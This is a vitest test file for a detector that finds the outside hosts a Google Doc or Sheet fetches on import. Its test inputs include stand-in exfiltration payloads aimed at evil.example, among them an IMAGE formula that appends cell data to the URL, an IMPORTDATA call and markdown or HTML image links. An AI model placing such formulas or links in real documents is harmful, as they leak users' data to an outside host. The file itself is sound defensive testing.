import { expect, it } from "vitest";
import { hostsFetchedOnImport } from "../../../src/content/fetched-on-import.ts";

it.each([
  ["google_doc", "# Plan\n\nSee https://example.com/plan", []],
  [
    "google_doc",
    "![chart](https://Evil.example/c?q=1) and [more](https://example.com)",
    ["evil.example", "example.com"],
  ],
  ["google_doc", "![chart][c]\n\n[c]: https://evil.example/c", ["evil.example"]],
  ["google_doc", '<img src="https://evil.example/c">', ["evil.example"]],
  ["google_sheet", "name,link\nIMAGE(,https://example.com", []],
  ["google_sheet", "a,=SUM(A1:A2)", []],
  ["google_sheet", '1,"=IMAGE(""https://evil.example/?q="" & A1)"', ["evil.example"]],
  ["google_sheet", "=importxml(A1&B1; 2)", ["anyone"]],
  ["google_sheet", 'a\n =IMPORTDATA("https://evil.example/")', ["evil.example"]],
] as const)("%s: %j", (kind, content, hosts) => {
  expect(hostsFetchedOnImport(content, kind)).toEqual(hosts);
});
